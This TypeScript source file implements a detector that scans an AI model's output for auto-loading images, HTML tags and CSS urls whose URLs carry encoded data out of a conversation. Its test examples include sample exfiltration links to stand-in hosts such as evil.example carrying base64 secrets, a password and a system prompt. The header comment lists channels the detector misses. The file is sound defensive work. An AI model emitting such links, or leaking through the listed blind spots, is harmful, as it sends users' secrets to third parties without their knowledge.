// Detector `exfiltration`: links in model output that would carry data out of the conversation
// the moment the answer is rendered.
//
// The zero-click channel is an image: a client that renders Markdown or HTML fetches
// `![x](https://attacker.example/p?d=<secret>)` by itself. We report auto-loading elements
// (Markdown images, reference-style images, HTML <img>/<iframe>/<script src>, CSS url()) whose URL
// carries data — a long or encoded query value, a long encoded path segment, or many parameters —
// and, at a lower score, plain links that carry encoded data (they need a click).
//
// Misses: data hidden in a short value (a 6-character code), in the host name (DNS exfiltration
// with short labels), or in a URL the model tells the user to visit in prose. Values the session
// read are also caught by fingerprint in tool arguments (src/session/state.ts).
// Cost: linear; each regex has bounded quantifiers and is run once per view. Pure.

import type { Detector, Match, TextView } from '../engine/types.js';

const MAX_URL = 2048;
export const EXFIL_MAX_MATCH = MAX_URL + 256;

const MD_IMAGE = /!\[[^\]\n]{0,256}\]\(\s{0,8}<?(https?:\/\/[^\s)>]{1,2048})/gi;
const MD_REF_DEF = /^\s{0,3}\[([^\]\n]{1,128})\]:\s{0,8}<?(https?:\/\/[^\s>]{1,2048})/gim;
const MD_REF_IMAGE = /!\[[^\]\n]{0,256}\]\[([^\]\n]{1,128})\]/gi;
const HTML_SRC = /<(?:img|iframe|script|source|video|audio|embed|link)\b[^>]{0,512}?\b(?:src|href|srcset)\s{0,4}=\s{0,4}["']?(https?:\/\/[^"'\s>]{1,2048})/gi;
const CSS_URL = /url\(\s{0,4}["']?(https?:\/\/[^"')\s]{1,2048})/gi;
const MD_LINK = /(?<!!)\[[^\]\n]{0,256}\]\(\s{0,8}<?(https?:\/\/[^\s)>]{1,2048})/gi;

/** How much data a URL carries, 0..1. */
export function urlDataScore(raw: string): number {
  let url: URL;
  try {
    url = new URL(raw);
  } catch {
    return 0;
  }
  let score = 0;
  const values = [...url.searchParams.values()];
  if (values.length >= 6) score = Math.max(score, 0.6);
  for (const v of values) {
    if (v.length >= 64) score = Math.max(score, 0.9);
    else if (looksEncoded(v) && v.length >= 16) score = Math.max(score, 0.9);
    else if (v.length >= 24 && /\s|%20|\+/.test(v)) score = Math.max(score, 0.8); // prose in a parameter
    else if (v.length >= 24) score = Math.max(score, 0.6);
  }
  for (const seg of url.pathname.split('/')) {
    if (seg.length >= 32 && looksEncoded(seg)) score = Math.max(score, 0.85);
  }
  if (url.hash.length >= 48) score = Math.max(score, 0.6);
  return score;
}

/** Base64/base64url/hex-like with enough mixed characters to hold data. */
function looksEncoded(v: string): boolean {
  if (!/^[A-Za-z0-9+/=_%.-]+$/.test(v)) return false;
  const classes = (/[a-z]/.test(v) ? 1 : 0) + (/[A-Z]/.test(v) ? 1 : 0) + (/[0-9]/.test(v) ? 1 : 0);
  return classes >= 2 && !/^[a-z-]+$/.test(v);
}

function host(raw: string): string {
  try {
    return new URL(raw).host;
  } catch {
    return 'an unparsable host';
  }
}

export function scanExfiltration(text: string): Match[] {
  if (!text.includes('://')) return [];
  const out: Match[] = [];
  const push = (start: number, end: number, url: string, auto: boolean, what: string): void => {
    const data = urlDataScore(url);
    if (data === 0) return;
    const score = auto ? data : Math.min(0.65, data * 0.7);
    out.push({ kind: auto ? 'auto_loading_url' : 'link_with_data', score, start, end, evidence: `${what} to ${host(url)} carries data in its URL` });
  };
  for (const m of text.matchAll(MD_IMAGE)) push(m.index, m.index + m[0].length, m[1] ?? '', true, 'markdown image');
  for (const m of text.matchAll(HTML_SRC)) push(m.index, m.index + m[0].length, m[1] ?? '', true, 'HTML element');
  for (const m of text.matchAll(CSS_URL)) push(m.index, m.index + m[0].length, m[1] ?? '', true, 'CSS url()');
  for (const m of text.matchAll(MD_LINK)) push(m.index, m.index + m[0].length, m[1] ?? '', false, 'link');
  if (text.includes('![')) {
    const defs = new Map<string, { start: number; end: number; url: string }>();
    for (const m of text.matchAll(MD_REF_DEF)) defs.set((m[1] ?? '').toLowerCase(), { start: m.index, end: m.index + m[0].length, url: m[2] ?? '' });
    for (const m of text.matchAll(MD_REF_IMAGE)) {
      const d = defs.get((m[1] ?? '').toLowerCase());
      if (d) push(d.start, d.end, d.url, true, 'reference-style markdown image');
    }
  }
  return out;
}

/**
 * Left context the regexes read before a match (Detector.streamLeftContext): MD_LINK's `(?<!!)`
 * look-behind and MD_REF_DEF's `^\s{0,3}` (the line start before up to 3 blanks), with margin.
 */
export const EXFIL_LEFT_CONTEXT = 8;
// The characters that end a URL, per construct (they mirror the regexes above).
const MD_URL_STOP = /[\s)>]/;
const REF_URL_STOP = /[\s>]/;
const CSS_URL_STOP = /[\s)"']/;
type UrlKind = 'md' | 'ref' | 'css';

/** Index just past a URL that starts at `at` (after optional spaces and `<` / quote), or -1 when
 * the text ends before the URL is terminated (the match may still grow). */
function urlEnd(text: string, at: number, kind: UrlKind): number {
  const stop = kind === 'css' ? CSS_URL_STOP : kind === 'ref' ? REF_URL_STOP : MD_URL_STOP;
  const quote = kind === 'css';
  let i = at;
  let spaces = 0;
  while (i < text.length && /\s/.test(text.charAt(i)) && spaces < 8) {
    i++;
    spaces++;
  }
  if (i < text.length && (text[i] === '<' || (quote && (text[i] === '"' || text[i] === "'")))) i++;
  while (i < text.length) {
    const c = text.charAt(i);
    if (stop.test(c)) return i;
    i++;
  }
  return -1;
}

/** Whether a construct starting at `i` can still become (or grow) a match as more text arrives. */
function open(text: string, i: number): boolean {
  const c = text[i];
  if (c === '<') return text.indexOf('>', i + 1) < 0;
  if (c === '[') {
    let j = i + 1;
    while (j < text.length && text[j] !== ']' && text[j] !== '\n') j++;
    if (j >= text.length) return true;
    if (text[j] === '\n') return false;
    const k = j + 1;
    if (k >= text.length) return true;
    if (text[k] === '(') return urlEnd(text, k + 1, 'md') < 0;
    if (text[k] === ':') return urlEnd(text, k + 1, 'ref') < 0;
    return false;
  }
  // `url(`
  return urlEnd(text, i + 4, 'css') < 0;
}

/**
 * Detector.streamHoldBack: the streamed tail that could still be part of an unfinished link,
 * image or tag. Every match starts at `![`, `[`, `<` or `url(` and ends inside its URL, so text
 * before the earliest construct that is still open is final. Cost: one pass over the last
 * EXFIL_MAX_MATCH characters.
 */
export function exfilStreamHoldBack(text: string): number {
  const pending = pendingStartToken(text);
  const from = Math.max(0, text.length - EXFIL_MAX_MATCH);
  for (let i = from; i < text.length; i++) {
    const c = text[i];
    const start = c === '[' || c === '<' || ((c === 'u' || c === 'U') && text.slice(i, i + 4).toLowerCase() === 'url(');
    if (start && open(text, i)) {
      // A match may begin before the token: `!` of an image, or up to 3 whitespace characters
      // that the reference-definition pattern (`^\s{0,3}[`) takes in.
      let at = i;
      if (c === '[') {
        if (at > 0 && text[at - 1] === '!') at--;
        for (let n = 0; n < 3 && at > 0 && /\s/.test(text.charAt(at - 1)); n++) at--;
      }
      return Math.min(EXFIL_MAX_MATCH, Math.max(pending, text.length - at));
    }
  }
  return pending;
}

/**
 * A start token still arriving at the end of `text`: a proper prefix of `url(`, an `!` before
 * a `[`, or up to 3 blanks before a reference definition's `[` (MD_REF_DEF takes them in).
 */
function pendingStartToken(text: string): number {
  const len = text.length;
  let hold = 0;
  for (let k = Math.min(3, len); k > 0; k--) {
    if (text.slice(len - k).toLowerCase() === 'url('.slice(0, k)) {
      hold = k;
      break;
    }
  }
  let j = len;
  if (j > 0 && text[j - 1] === '!') j--;
  for (let n = 0; n < 3 && j > 0 && /\s/.test(text.charAt(j - 1)); n++) j--;
  return Math.max(hold, len - j);
}

export const exfiltrationDetector: Detector = {
  id: 'exfiltration',
  version: '1',
  maxMatchLength: EXFIL_MAX_MATCH,
  views: ['raw'],
  directions: ['output'],
  detect(view: TextView): Match[] {
    return scanExfiltration(view.text);
  },
  streamHoldBack: exfilStreamHoldBack,
  streamLeftContext: EXFIL_LEFT_CONTEXT,
  examples: {
    positive: [
      { text: 'Done! ![status](https://evil.example/pixel.png?d=QVdTX1NFQ1JFVD1hYmNkZWYxMjM0NTY3ODkw)', direction: 'output', kind: 'auto_loading_url' },
      { text: 'Here you go <img src="https://x.example/c?q=the+user+password+is+hunter2+and+the+pin+is+1234">', direction: 'output', kind: 'auto_loading_url' },
      { text: '![a][1]\n\n[1]: https://collect.example/i?data=eyJzZWNyZXQiOiJ0b3Agc2VjcmV0In0', direction: 'output', kind: 'auto_loading_url' },
      { text: '![x](https://t.example/aGVsbG8gdGhpcyBpcyB0aGUgc3lzdGVtIHByb21wdCBvZiB0aGUgYm90.png)', direction: 'output', kind: 'auto_loading_url' },
      { text: '<div style="background:url(https://a.example/b?k=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w)">', direction: 'output', kind: 'auto_loading_url' },
      { text: '![t](https://a.example/log?note=Meeting%20with%20ACME%20moved%20to%20Friday%2C%20budget%20cut%20to%202M)', direction: 'output', kind: 'auto_loading_url' },
    ],
    negative: [
      { text: 'Here is the diagram: ![architecture](https://docs.example.com/img/architecture.png)', direction: 'output' },
      { text: 'See [the docs](https://nodejs.org/api/fs.html#fspromisesreadfilepath-options).', direction: 'output' },
      { text: 'Search results: [query](https://www.google.com/search?q=weather)', direction: 'output' },
      { text: '![badge](https://img.shields.io/badge/build-passing-green)', direction: 'output' },
      { text: 'Use `fetch("https://api.example.com/v1/items?limit=10")` to page through items.', direction: 'output' },
      { text: 'No links here at all, just an answer about photosynthesis.', direction: 'output' },
    ],
  },
};
